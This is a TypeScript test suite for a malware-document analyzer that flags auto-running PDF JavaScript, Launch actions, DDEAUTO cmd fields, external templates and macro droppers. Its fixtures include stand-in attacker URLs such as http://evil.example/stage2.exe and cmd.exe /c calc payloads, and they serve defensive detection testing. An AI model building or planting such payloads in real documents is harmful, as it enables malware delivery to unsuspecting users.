import { deflateSync } from 'node:zlib'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { makeCompoundFile } from '../formats/compound-sample.ts'
import { makeZip } from '../formats/zip-sample.ts'
import { reportOf, runAnalyzer } from '../kit/try.ts'
import { analyzer } from './analyzer.ts'
import {
  dropper,
  harmless,
  macroFolder,
  makeDoc,
  makeDocx,
  makePdf,
  makeRtf,
  makeXlsx,
  nativeStream,
  packageOf,
  packedObjects,
  program,
  relationships,
  rtfObject,
} from './document-samples.ts'
import { unpackVba } from './ovba.ts'

const look = (file: Buffer) => reportOf(analyzer, { dataType: 'file', file, filename: 'a.doc' })

const badges = async (file: Buffer, wanted = 'suspicious') =>
  (await look(file)).taxonomies
    .filter(({ level }) => level === wanted)
    .map(({ predicate, value }) => `${predicate} ${value}`)

const urls = async (file: Buffer) =>
  (await look(file)).artifacts.flatMap((found) => ('data' in found ? [found.data] : []))

const wideField = (at: number) =>
  Buffer.concat([Buffer.alloc(at, 'x'), Buffer.from('\x13 DDEAUTO cmd', 'utf16le')])

describe('a PDF', () => {
  it('with a script that starts by itself is suspicious, and the script is handed out', async () => {
    const pdf = makePdf([
      '<< /Type /Catalog /OpenAction << /S /JavaScript /JS 2 0 R >> >>',
      {
        dictionary: '/Filter /FlateDecode',
        stream: deflateSync('app.launchURL("http://evil.example/a")'),
      },
    ])

    expect(await badges(pdf)).toEqual(['Script JavaScript', 'Script starts by itself'])
    const { files, artifacts } = await look(pdf)
    expect(String(files['script1.js'])).toBe('app.launchURL("http://evil.example/a")')
    expect(artifacts).toContainEqual(
      expect.objectContaining({ dataType: 'url', data: 'http://evil.example/a' }),
    )
  })

  it('is looked through inside of its packed objects', async () => {
    const packed = packedObjects({
      10: '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
      11: '<< /S /URI /URI (https://login.example/) >>',
    })
    const pdf = makePdf(['<< /Type /Catalog >>', packed])

    expect(await badges(pdf)).toEqual(['Script JavaScript'])
    expect((await look(pdf)).full.scripts).toEqual(['app.alert(1)'])
    expect(await urls(pdf)).toEqual(['https://login.example/'])
  })

  it.each([
    [
      'starts a program',
      '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>',
      ['Action Launch'],
    ],
    [
      'disguises names',
      '<< /S /J#61vaScript /J#53 (x) >>',
      ['Script JavaScript', 'Names disguised'],
    ],
    ['opens a share', '<< /S /GoToE /F (\\\\\\\\203.0.113.9\\\\x) >>', ['Action share']],
  ])('that %s is suspicious', async (_, object, expected) => {
    expect(await badges(makePdf([object]))).toEqual(expected)
  })

  it('hands out embedded files and judges them by what they are', async () => {
    const spec = (name: string, target: number) =>
      `<< /Type /Filespec /F (${name}) /EF << /F ${target} 0 R >> >>`
    const invoice = makePdf([spec('invoice.xml', 2), { dictionary: '', stream: '<invoice/>' }])
    const hidden = makePdf([
      spec('setup.exe', 2),
      { dictionary: '/Filter /ASCIIHexDecode', stream: `${program.toString('hex')}>` },
    ])

    expect(await badges(invoice)).toEqual([])
    expect(String((await look(invoice)).files['invoice.xml'])).toBe('<invoice/>')
    expect(await badges(hidden)).toEqual(['Embedded program'])
    expect((await look(hidden)).files['setup.exe']).toEqual(program)
  })

  it('that goes to its first page when opened is ordinary', async () => {
    const pdf = makePdf(['<< /Type /Catalog /OpenAction [3 0 R /Fit] >>'])
    expect(await badges(pdf)).toEqual([])
  })

  it('that is encrypted says so, and its texts are not taken for links', async () => {
    const pdf = makePdf(['<< /S /URI /URI (http://x.example/) >>'], '/Encrypt 9 0 R')
    expect(await badges(pdf, 'info')).toEqual(['Form PDF', 'Document encrypted'])
    expect(await urls(pdf)).toEqual([])
  })
})

describe('macros', () => {
  it('are unpacked as the specification shows', () => {
    const packed = Buffer.from(
      '012fb000236161616263646582660070616768696a013808616b6c00306d6e6f70067102700410727374757610777879' +
        '7a003c',
      'hex',
    )
    expect(String(unpackVba(packed, 10_000))).toBe(
      '#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa',
    )
  })

  it('are unpacked without harm, whatever the bytes', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), (bytes) => {
        const chunk = Buffer.concat([Buffer.from([1, 0xff, 0xb0]), bytes])
        expect(unpackVba(chunk, 10_000)?.length).toBeLessThanOrEqual(10_000)
      }),
    )
  })

  it('are found next to a stream that is damaged on purpose', async () => {
    const sound = makeDoc({ Macros: { VBA: macroFolder({ ThisDocument: dropper }) } })
    const record = sound.indexOf('WordDocument', 0, 'utf16le')
    // Claims to continue where the file has ended.
    sound.writeUInt32LE(0x00ffffff, record + 116)
    const { full } = await look(sound)

    expect(full.problems).toEqual([
      'WordDocument is corrupt: a sector lies beyond the end of the file',
      'truncated: the end of WordDocument is missing',
    ])
    expect(await badges(sound)).toContain('Macros start by themselves')
  })

  it.each([
    ['an old document', makeDoc({ Macros: { VBA: macroFolder({ ThisDocument: dropper }) } })],
    [
      'a new one',
      makeDocx({
        'word/vbaProject.bin': makeCompoundFile({ VBA: macroFolder({ ThisDocument: dropper }) }),
      }),
    ],
    [
      'one whose list is damaged on purpose',
      makeDoc({ Macros: { VBA: macroFolder({ ThisDocument: dropper }, false) } }),
    ],
  ])('that load and start a program are found in %s', async (_, document) => {
    expect(await badges(document)).toEqual([
      'Macros start by themselves',
      'Macros runs programs',
      'Macros makes objects',
      'Macros downloads',
    ])
    const { files } = await look(document)
    expect(String(files['ThisDocument.bas'])).toBe(dropper)
    expect(await urls(document)).toEqual(['http://evil.example/stage2.exe'])
  })

  it('that add numbers are a fact', async () => {
    const document = makeDoc({ Macros: { VBA: macroFolder({ Module1: harmless }) } })
    expect(await badges(document)).toEqual([])
    expect(await badges(document, 'info')).toContain('Macros present')
  })

  it('of Excel 4 are suspicious, in both forms', async () => {
    const sheet = Buffer.from('85000e000000000001010600536865657431', 'hex')
    expect(await badges(makeCompoundFile({ Workbook: sheet }))).toEqual(['Macros Excel 4'])
    expect(await badges(makeXlsx({ 'xl/macrosheets/sheet1.xml': '<x/>' }))).toEqual([
      'Macros Excel 4',
    ])
  })
})

describe('an Office document', () => {
  const withTemplate = (target: string) =>
    makeDocx({
      'word/_rels/settings.xml.rels': relationships(['attachedTemplate', target]),
    })

  it.each([
    ['of a web site', 'https://evil.example/t.dotm', ['External template']],
    ['of a share elsewhere', 'file:///\\\\files.evil.example\\t.dotm', ['External template']],
    ['of this machine', 'file:///C:\\Users\\a\\Normal.dotm', []],
    ['of an internal share', 'file:///\\\\server\\templates\\letter.dotx', []],
  ])('with a template %s', async (_, target, expected) => {
    expect(await badges(withTemplate(target))).toEqual(expected)
  })

  it('hands out its links', async () => {
    const links = relationships(['hyperlink', 'https://a.example/?x=1&amp;y=2'])
    const document = makeDocx({ 'word/_rels/document.xml.rels': links })
    expect(await urls(document)).toEqual(['https://a.example/?x=1&y=2'])
    expect(await badges(document)).toEqual([])
  })

  it.each([
    [
      'in pieces',
      makeDocx({
        'word/document.xml':
          '<w:instrText>DD</w:instrText><w:instrText xml:space="preserve">EAUTO c:\\\\cmd.exe</w:instrText>',
      }),
    ],
    [
      'of a cell',
      makeXlsx({
        'xl/externalLinks/externalLink1.xml': '<ddeLink ddeService="cmd" ddeTopic="/c calc">',
      }),
    ],
    ['of an old one', makeDoc({ WordDocument: Buffer.from(`${'x'.repeat(20)}\x13 DDEAUTO cmd`) })],
    ['of an old one, in UTF-16', makeDoc({ WordDocument: wideField(20) })],
    ['of an old one, in UTF-16 at an odd place', makeDoc({ WordDocument: wideField(21) })],
  ])('with a DDE field %s is suspicious', async (_, document) => {
    expect(await badges(document)).toEqual(['Fields DDE'])
  })

  it.each([
    [
      'new',
      makeDocx({
        'word/embeddings/oleObject1.bin': makeCompoundFile({
          '\x01Ole10Native': nativeStream('run.exe', program),
        }),
      }),
    ],
    [
      'old',
      makeDoc({ ObjectPool: { _1: { '\x01Ole10Native': nativeStream('run.exe', program) } } }),
    ],
  ])('of the %s form gives out what was dropped into it', async (_, document) => {
    expect(await badges(document)).toEqual(['Embedded program'])
    expect((await look(document)).files['run.exe']).toEqual(program)
  })

  it('with a password says so', async () => {
    const locked = makeCompoundFile({ EncryptedPackage: Buffer.alloc(100) })
    expect(await badges(locked, 'info')).toContain('Document encrypted')
  })
})

describe('an RTF file', () => {
  it('gives out its objects, also between words that mislead', async () => {
    const between = '{\\*\\x 00ff}\\par1 \r\n'
    const file = makeRtf(rtfObject('Package', packageOf('run.exe', program), between))

    expect(await badges(file)).toEqual(['Embedded program'])
    expect((await look(file)).files['run.exe']).toEqual(program)
  })

  it.each([
    ['an equation', makeRtf(rtfObject('Equation.3', Buffer.from('x'))), ['Object equation']],
    [
      'a template from elsewhere',
      makeRtf('{\\*\\template http://evil.example/t}'),
      ['External template'],
    ],
    ['a DDE field', makeRtf('{\\field{\\*\\fldinst {DDEAUTO cmd}}}'), ['Fields DDE']],
    ['a strange first line', Buffer.from('{\\rt0 Hello}'), ['Header damaged']],
  ])('with %s is suspicious', async (_, file, expected) => {
    expect(await badges(file)).toEqual(expected)
  })

  it('with a link is ordinary', async () => {
    const file = makeRtf('{\\field{\\*\\fldinst {HYPERLINK "https://a.example/"}}}')
    expect(await badges(file)).toEqual([])
    expect(await urls(file)).toEqual(['https://a.example/'])
  })
})

it.each([
  ['a text', Buffer.from('Hello, this is no document')],
  ['nothing', Buffer.alloc(0)],
  ['zeros', Buffer.alloc(10_000)],
  ['a zip file', makeZip({ 'a.txt': 'x' })],
  ['a damaged zip file', makeZip({ 'a.txt': 'x' }).subarray(0, 50)],
  ['a mail of Outlook', makeCompoundFile({ '__properties_version1.0': Buffer.alloc(32) })],
  [
    'a large installer',
    Buffer.concat([
      makeCompoundFile({ Property: Buffer.alloc(9_000) }),
      Buffer.alloc(51 * 1024 * 1024),
    ]),
  ],
])('says nothing about %s', async (_, content) => {
  expect(await look(content)).toMatchObject({ taxonomies: [], full: { isDocument: false } })
})

it('fails on a compound file whose list of streams is missing: it may be a document', async () => {
  const file = makeCompoundFile({ a: Buffer.alloc(10) }).subarray(0, 600)
  expect(await runAnalyzer(analyzer, { dataType: 'file', file, filename: 'a' })).toMatchObject({
    success: false,
    errorMessage: 'The document is corrupt: a sector lies beyond the end of the file',
  })
})
